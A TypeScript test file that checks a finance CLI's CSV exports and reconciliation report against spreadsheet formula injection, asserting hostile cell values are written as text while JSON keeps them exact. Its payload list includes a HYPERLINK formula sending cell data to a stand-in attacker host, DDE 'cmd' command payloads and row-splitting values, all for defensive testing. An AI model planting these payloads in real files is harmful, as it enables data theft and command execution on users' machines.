/**
 * Formula injection in the finance CSV files (docs/security.md, "Files for spreadsheets"): docs/finance.md
 * says the CSV exports and the reconciliation's CSV are for spreadsheets, and their text comes from the
 * platform (store names, account holders, references, descriptions). A cell that a spreadsheet would
 * take for a formula (`=`, `+`, `-` that is not a number, `@`, a TAB or a CR first, OWASP "CSV
 * Injection") is written as text; negative amounts stay numbers; JSON and NDJSON keep every value
 * exactly. Each CSV is read here as a spreadsheet reads it: a CR or LF outside quotes ends a row.
 */

import { readFileSync, rmSync } from "node:fs";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { startEmulator, type RunningEmulator } from "../../src/emulator/index.js";
import { normalizeReads, renderExport } from "../../src/finance/export.js";
import { reconcile } from "../../src/finance/reconcile.js";
import { renderReconcileReport } from "../../src/finance/reconciliation-report.js";
import type { FinanceKind } from "../../src/finance/records.js";
import { order, payment, sampleInput } from "../finance/fixtures.js";
import { STORE_FILES } from "../finance/helpers.js";
import { carte, copyExample, edit, seedFor } from "../helpers/project.js";

/** Values a hostile store name, holder name, reference or description may hold. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A2,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  // A CR inside a value: a spreadsheet ends the row there unless the cell is quoted.
  'Cancelled\r=HYPERLINK("https://evil.example/")',
  "Closed\n=1+1",
  // Full-width forms some spreadsheets read as their ASCII signs.
  "＝1+1",
];

/** The first characters that make a spreadsheet cell a formula (OWASP), with their full-width forms. */
const LIVE = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

/**
 * The cells of a CSV text as a spreadsheet takes them: RFC 4180 quotes, and a CR or LF outside quotes
 * ends the row (a CRLF once).
 */
function spreadsheetCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === "") quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" || ch === "\n") {
      if (ch === "\r" && text[i + 1] === "\n") i++;
      rows.push([...row, cell]);
      row = [];
      cell = "";
    } else cell += ch;
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** The cells a spreadsheet would evaluate as formulas. */
function liveFormulas(csv: string): string[] {
  return spreadsheetCells(csv)
    .flat()
    .filter((c) => LIVE.test(c) && !NUMBER.test(c));
}

/** A value as the spreadsheet must show it: behind a quote when it starts like a formula. */
const asText = (value: string): string => (LIVE.test(value) ? `'${value}` : value);

/** Every row has as many cells as the header: no value started a row of its own. */
function rowWidths(csv: string): number[] {
  return [...new Set(spreadsheetCells(csv).map((r) => r.length))];
}

/** Wire entries of one read whose every text field holds `value`. */
function hostileEntries(kind: FinanceKind, value: string): unknown[] {
  const text = {
    store_name: value,
    store_type: value,
    order_status: value,
    payment_method: value,
    is_prime: value,
    items: [{ name: value, units: "1" }],
  };
  switch (kind) {
    case "payments":
      return [
        payment(1001, -30.3, "2025-01-06", {
          status: value,
          payment_reference: value,
          frequecy_type: value,
          frequecy_type_descripcion: value,
          balance_request_id: value,
          bank_account: {
            bank_name: value,
            account_number: value,
            bank_code: value,
            account_type: value,
            ispb: value,
            document: { identification_type: value, identification_number: value, holder_name: value },
          },
        }),
      ];
    case "orders":
      return [order(1, 1001, -10.1, "2025-01-06T12:00:00Z", text)];
    case "adjustments":
      return [order(10, 1001, -3.3, "2025-01-07T13:30:00Z", { ...text, descriptionAdjustment: value })];
    case "cancellations":
      return [
        order(11, 1001, -3.3, "2025-01-08T18:00:00Z", {
          ...text,
          cancellatioPercentage: value,
          descriptionCancellation: value,
        }),
      ];
  }
}

const KINDS: FinanceKind[] = ["payments", "orders", "adjustments", "cancellations"];

describe("finance CSV exports and formula injection", () => {
  for (const kind of KINDS)
    it(`writes hostile platform text of ${kind} as text, and keeps it exactly in JSON and NDJSON`, () => {
      for (const value of HOSTILE) {
        const records = normalizeReads(kind, [{ storeId: "900101", entries: hostileEntries(kind, value) }]);
        const csv = renderExport(kind, "csv", records);
        expect(liveFormulas(csv), JSON.stringify(value)).toEqual([]);
        expect(rowWidths(csv), JSON.stringify(value)).toHaveLength(1);
        // The value is still there, whole, behind the quote that makes it text.
        expect(spreadsheetCells(csv)[1]).toContain(asText(value));
        // Negative amounts stay numbers.
        expect(spreadsheetCells(csv)[1]).toContain(
          kind === "payments" ? "-30.30" : kind === "orders" ? "-10.10" : "-3.30",
        );
        const json = JSON.parse(renderExport(kind, "json", records)) as Record<string, unknown>[];
        expect(JSON.stringify(json)).toContain(JSON.stringify(value));
        expect(JSON.stringify(json)).not.toContain(JSON.stringify(`'${value}`));
        const ndjson = renderExport(kind, "ndjson", records).trimEnd().split("\n");
        expect(ndjson.map((l) => JSON.parse(l) as unknown)).toEqual(json);
      }
    });

  it("writes hostile references and descriptions of the reconciliation's CSV as text", () => {
    for (const value of HOSTILE) {
      const input = sampleInput();
      input.payments = input.payments.map((p) => ({
        ...p,
        entry: { ...p.entry, payment_reference: value },
      }));
      input.cancellations = input.cancellations.map((c) => ({
        ...c,
        entry: { ...c.entry, descriptionCancellation: value },
      }));
      const csv = renderReconcileReport("csv", reconcile(input), {
        stores: ["900101"],
        dateField: "expected_execution_date",
        from: "2025-01-01",
        to: "2025-02-28",
      });
      expect(liveFormulas(csv), JSON.stringify(value)).toEqual([]);
      expect(rowWidths(csv), JSON.stringify(value)).toHaveLength(1);
      const cells = spreadsheetCells(csv).flat();
      expect(cells).toContain(asText(value));
      // Differences and cancellations below zero are numbers still.
      expect(cells).toContain("-2.50");
    }
  });
});

describe("carte finance --format csv against a platform with a hostile store name", () => {
  let emu: RunningEmulator | undefined;
  let dir: string | undefined;
  afterEach(async () => {
    await emu?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
    emu = undefined;
    dir = undefined;
  });

  it("writes the store and holder names as text in the orders, payments and adjustments files", async () => {
    dir = copyExample();
    const seed = seedFor(dir, STORE_FILES);
    const name = '=HYPERLINK("https://evil.example/?"&A2,"Bogotá Centro")';
    seed.clients![0]!.stores![0]!.name = name;
    emu = await startEmulator({ port: 0, seed: { ...seed, finance: {} } });
    const config = path.join(dir, "carte.yaml");
    edit(config, /^version: 1$/m, `version: 1\nplatform:\n  base_url: ${emu.url}`);
    for (const kind of ["orders", "payments", "adjustments"] as const) {
      const out = path.join(dir, `${kind}.csv`);
      const run = await carte(["finance", kind, "-c", config, "--out", out, "-q"]);
      expect(run.code, run.err).toBe(0);
      const csv = readFileSync(out, "utf8");
      expect(csv).toContain("'=HYPERLINK(");
      expect(liveFormulas(csv)).toEqual([]);
      const json = await carte(["finance", kind, "-c", config, "--format", "json", "-q"]);
      expect(json.out).toContain(JSON.stringify(name));
      expect(json.out).not.toContain(`'=HYPERLINK(`);
    }
  });
});
